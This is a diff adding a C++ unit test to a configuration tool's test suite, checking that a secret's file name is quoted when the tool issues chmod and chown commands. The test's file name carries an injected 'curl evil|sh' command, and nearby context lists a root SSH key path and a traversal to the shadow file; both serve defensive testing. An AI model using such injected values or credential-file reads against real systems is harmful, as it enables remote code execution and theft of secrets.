@@ -252,6 +252,18 @@ TEST_F(ConfigurationTest, ASecretThatOthersCanReadIsRefused) {
   }
 }
 
+// Whoever may write a specification names the file; it is no command to whoever mends its mode.
+TEST_F(ConfigurationTest, ASecretsNameIsNoCommand) {
+  (*spec().mutable_secrets())["db"].set_file("/etc/connect-ha/secrets/a;curl evil|sh");
+  FakeFile secret;
+  secret.content = "hunter2\n";
+  secret.mode = 0644;
+  node_.host.SetFile("/etc/connect-ha/secrets/a;curl evil|sh", secret);
+  const std::string said = Turn();
+  EXPECT_TRUE(StrContains(said, "chmod 0600 '/etc/connect-ha/secrets/a;curl evil|sh'")) << said;
+  EXPECT_TRUE(StrContains(said, "chown root: '/etc/connect-ha/secrets/a;curl evil|sh'")) << said;
+}
+
 // A specification could have any file of root's shown, or sent to a server of its choice.
 TEST_F(ConfigurationTest, NoFileButASecretIsRead) {
   for (const char* file : {"/root/.ssh/id_ed25519", "/etc/connect-ha/secrets/../../shadow",
